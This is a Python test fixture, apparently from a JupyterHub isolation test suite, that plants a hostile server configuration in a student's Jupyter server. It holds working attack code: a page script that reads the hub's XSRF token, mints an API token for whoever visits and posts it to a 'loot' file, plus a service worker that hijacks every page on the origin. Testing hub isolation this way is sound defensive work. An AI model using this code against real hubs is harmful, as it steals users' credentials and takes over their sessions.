"""What a hostile student may add to the own server: a page that answers anybody without asking the hub.

The page takes the login of whoever sees it, and the server writes down each request that reaches it. It also has a
service worker for all of the address, the hub's pages too.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from lumihub.operations.student import StudentSession

SEEN, LOOT = "seen.txt", "loot.txt"

# With the word that the hub puts into its own pages, which a page of the same address can read, it asks for a token.
PAGE = """<!doctype html><title>Stage</title><h1>My results</h1>
<script>
(async () => {
  const home = await (await fetch("/hub/home")).text();
  const word = /xsrf_token: "([^"]+)"/.exec(home)[1];
  const name = /user: "([^"]+)"/.exec(home)[1];
  const headers = {"X-XSRFToken": word, "Content-Type": "application/json"};
  const answer = await fetch(`/hub/api/users/${name}/tokens`, {method: "POST", headers, body: "{}"});
  const {token} = await answer.json();
  await fetch(location.pathname, {method: "POST", body: `${name} ${token}\\n`});
  document.querySelector("h1").textContent = "Thank you";
})();
</script>"""

CONFIGURATION = f"""
from pathlib import Path
from jupyter_server.serverapp import ServerWebApplication
from tornado.web import RequestHandler
from tornado.websocket import WebSocketHandler

def write(name, line):
    with open(Path.home() / name, "a") as file:
        file.write(line)

class Stage(RequestHandler):
    def get(self):
        self.finish({PAGE!r})

    def post(self):
        write("{LOOT}", self.request.body.decode())

    put = delete = patch = get

class Worker(RequestHandler):
    def get(self):
        self.set_header("Content-Type", "text/javascript")
        self.set_header("Service-Worker-Allowed", "/")
        self.finish("addEventListener('fetch', event => event.respondWith(new Response('taken')))")

class Socket(WebSocketHandler):
    def open(self):
        self.write_message("hello")

class Recording(ServerWebApplication):
    def init_handlers(self, *words):
        pages = [("/stage", Stage), ("/stage/socket", Socket), ("/worker.js", Worker)]
        pages = [("/user/[^/]+" + path, handler) for path, handler in pages]
        return [*pages, *super().init_handlers(*words)]

    def find_handler(self, request, **options):
        write("{SEEN}", request.method + " " + request.uri + "\\n")
        return super().find_handler(request, **options)

import jupyter_server.serverapp
jupyter_server.serverapp.ServerWebApplication = Recording
"""


def set_the_stage(student: StudentSession) -> None:
    """Give the student's server, which runs, that page; it is started anew."""
    kernel = student.start_kernel()
    code = (
        "from pathlib import Path\n"
        "folder = Path.home() / '.jupyter'; folder.mkdir(exist_ok=True)\n"
        f"for name in ('{SEEN}', '{LOOT}'): (Path.home() / name).touch()\n"
        f"(folder / 'jupyter_server_config.py').write_text({CONFIGURATION!r})"
    )
    assert kernel.run(code).error == ""
    kernel.close()
    student.stop_server()
    student.start_server()


def read_lines(student: StudentSession, name: str, mark: str = "") -> list[str]:
    """The lines with this mark in one of the two files in the student's home."""
    return [line for line in student.read_file(name).splitlines() if mark in line]
